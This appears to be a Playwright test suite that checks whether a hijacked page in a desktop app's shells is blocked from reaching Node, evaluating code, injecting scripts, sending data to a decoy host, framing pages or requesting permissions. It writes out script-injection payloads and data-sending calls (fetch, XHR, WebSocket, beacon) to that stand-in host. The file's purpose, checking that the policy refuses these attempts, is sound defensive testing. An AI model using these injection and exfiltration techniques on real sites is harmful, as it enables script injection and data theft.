/**
 * What a page that was taken over would try; both shells are put to it. Each attempt first lets the debugger's own turn pass,
 * in which Chromium allows what the policy forbids. They run in the page: they use nothing from outside themselves.
 */
import { expect, type Page, test } from '@playwright/test'
import type { Elsewhere } from './elsewhere.ts'

interface Attack {
  name: string
  attempt: (elsewhere: string) => Promise<unknown>
  gives: unknown
}
const attacks: readonly Attack[] = [
  {
    name: 'reach Node',
    attempt: async () => {
      const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer']
      return names.filter((name) => name in globalThis)
    },
    gives: [],
  },
  {
    name: 'evaluate text as code',
    attempt: async () => {
      await new Promise((go) => setTimeout(go))
      const ways = [
        () => Reflect.get(globalThis, 'eval')('1 + 1'),
        () => new Function('return 1')(),
        () => Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, ['return 1']),
        () => Reflect.apply(setTimeout, globalThis, ['globalThis.wasEvaluated = true']),
      ]
      const refused = ways.map((way) => {
        try {
          way()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      })
      await new Promise((go) => setTimeout(go, 50))
      return { refused: refused.slice(0, 3).map((name) => name !== 'done'), ran: 'wasEvaluated' in globalThis }
    },
    gives: { refused: [true, true, true], ran: false },
  },
  {
    name: 'write markup and scripts into the page',
    attempt: async (elsewhere) => {
      await new Promise((go) => setTimeout(go))
      const ways = [
        () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.wasInjected = true">'),
        () => document.body.appendChild(Object.assign(document.createElement('div'), { innerHTML: '<b>x</b>' })),
        () =>
          document.body.appendChild(
            Object.assign(document.createElement('script'), { textContent: 'globalThis.wasInjected = true' }),
          ),
        () => document.body.appendChild(Object.assign(document.createElement('script'), { src: `${elsewhere}/a.js` })),
        () => document.write('<script>globalThis.wasInjected = true</script>'),
        () => document.body.appendChild(Object.assign(document.createElement('object'), { data: `${elsewhere}/object` })),
        () => document.body.appendChild(Object.assign(document.createElement('embed'), { src: `${elsewhere}/embed` })),
        () => new Worker(`${elsewhere}/worker.js`),
      ]
      const refused = ways.map((way) => {
        try {
          way()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      })
      const button = document.body.appendChild(document.createElement('button'))
      try {
        button.setAttribute('onclick', 'globalThis.wasInjected = true')
      } catch {}
      button.click()
      button.remove()
      await new Promise((go) => setTimeout(go, 50))
      return { refused, ran: 'wasInjected' in globalThis }
    },
    gives: { refused: Array(8).fill('TypeError'), ran: false },
  },
  {
    name: 'take a name in the policy for itself',
    attempt: async () => {
      type Policies = { trustedTypes?: { createPolicy(name: string, rules: object): object } }
      try {
        const { trustedTypes } = globalThis as Policies
        trustedTypes?.createPolicy('mine', { createHTML: (html: string) => html })
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    },
    gives: 'TypeError',
  },
  {
    name: 'send what it knows elsewhere',
    attempt: async (elsewhere) => {
      await new Promise((go) => setTimeout(go))
      const outcome = (sending: Promise<unknown>) =>
        sending.then(
          () => 'sent',
          () => 'refused',
        )
      const told = (target: EventTarget, good: string) =>
        new Promise((done, failed) => {
          target.addEventListener(good, done)
          target.addEventListener('error', failed)
        })
      const attached = <T extends HTMLElement>(element: T): T => document.head.appendChild(element)
      const request = new XMLHttpRequest()
      const sent = told(request, 'load')
      request.open('POST', `${elsewhere}/xhr`)
      request.send('words')
      const style = attached(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${elsewhere}/a.css` }))
      const image = new Image()
      image.src = `${elsewhere}/a.png`
      const sound = new Audio(`${elsewhere}/a.wav`)
      sound.load()
      const all = await Promise.all([
        outcome(fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'words', mode: 'no-cors' })),
        outcome(sent),
        outcome(told(style, 'load')),
        outcome(told(image, 'load')),
        outcome(told(sound, 'canplay')),
        outcome(told(new WebSocket(elsewhere.replace('http', 'ws')), 'open')),
        outcome(told(new EventSource(`${elsewhere}/events`), 'open')),
        outcome(new FontFace('stolen', `url(${elsewhere}/a.woff2)`).load()),
        outcome(import(`${elsewhere}/module.js`)),
      ])
      navigator.sendBeacon(`${elsewhere}/beacon`, 'words')
      attached(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${elsewhere}/prefetch` }))
      attached(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: `${elsewhere}/preload.js` }))
      attached(Object.assign(document.createElement('link'), { rel: 'icon', href: `${elsewhere}/icon.png` }))
      await new Promise((go) => setTimeout(go, 300))
      return [...new Set(all)]
    },
    gives: ['refused'],
  },
  {
    name: 'draw another page inside',
    attempt: async (elsewhere) => {
      await new Promise((go) => setTimeout(go))
      const blocked: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective))
      const frame = (src: string) => document.body.appendChild(Object.assign(document.createElement('iframe'), { src }))
      const made = [frame(`${elsewhere}/frame`), frame('./index.html'), frame('data:text/html,hello')]
      await new Promise((go) => setTimeout(go, 300))
      for (const each of made) each.remove()
      return [...new Set(blocked)].sort()
    },
    gives: ['frame-src'],
  },
  {
    name: 'send a form, or move what addresses mean',
    attempt: async (elsewhere) => {
      await new Promise((go) => setTimeout(go))
      const form = document.body.appendChild(
        Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' }),
      )
      form.submit()
      form.remove()
      document.head.appendChild(Object.assign(document.createElement('base'), { href: `${elsewhere}/` })).remove()
      await new Promise((go) => setTimeout(go, 300))
      return document.baseURI === location.href
    },
    gives: true,
  },
  {
    name: 'have its menu, its drag and drop, its selection, its zoom or its printing',
    attempt: async () => {
      const prevented = (event: Event) => !document.body.dispatchEvent(event)
      const of = { bubbles: true, cancelable: true }
      const events = ['contextmenu', 'dragstart', 'dragover', 'drop', 'selectstart'].map((type) => new Event(type, of))
      const zoom = new WheelEvent('wheel', { ...of, ctrlKey: true })
      return { prevented: [...events, zoom].every(prevented), prints: String(window.print).includes('native code') }
    },
    gives: { prevented: true, prints: false },
  },
  {
    name: 'ask for what a visitor would not give',
    attempt: async () => {
      const outcome = (asking: Promise<unknown>) =>
        Promise.race([asking, new Promise((_, late) => setTimeout(late, 2_000))]).then(
          () => 'given',
          () => 'refused',
        )
      const where = new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed))
      return Promise.all([
        outcome(where),
        outcome(navigator.mediaDevices.getUserMedia({ video: true })),
        outcome(navigator.mediaDevices.getDisplayMedia()),
        outcome(navigator.clipboard.readText()),
        outcome(Notification.requestPermission().then((answer) => (answer === 'granted' ? answer : Promise.reject(answer)))),
        outcome(document.documentElement.requestFullscreen()),
      ])
    },
    gives: Array(6).fill('refused'),
  },
]

/** One test for each; nobody came elsewhere, and the page is where it was. */
export const testAttacks = (page: () => Page, elsewhere: () => Elsewhere): void => {
  for (const { name, attempt, gives } of attacks) {
    test(`a page that was taken over cannot ${name}`, async () => {
      const address = page().url()
      expect(await page().evaluate(attempt, elsewhere().address)).toEqual(gives)
      expect(elsewhere().visits()).toEqual([])
      expect(page().url()).toBe(address)
    })
  }
}
